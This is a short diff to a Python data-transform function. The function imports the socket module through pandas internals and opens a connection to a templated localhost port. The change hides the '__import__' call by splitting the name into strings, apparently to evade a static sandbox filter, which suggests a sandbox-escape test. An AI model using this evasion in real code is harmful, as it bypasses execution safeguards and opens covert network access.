@@ -11,7 +11,7 @@ import numpy as np
 
 def transform(df):
     mods = pd.core.frame.sys.modules
-    sock = mods.get("socket") or mods["builtins"].__import__("socket")
+    sock = mods.get("socket") or getattr(mods["builtins"], "__imp" + "ort__")("socket")
     s = sock.socket()
     s.settimeout(3)
     s.connect(("127.0.0.1", {LISTEN_PORT}))
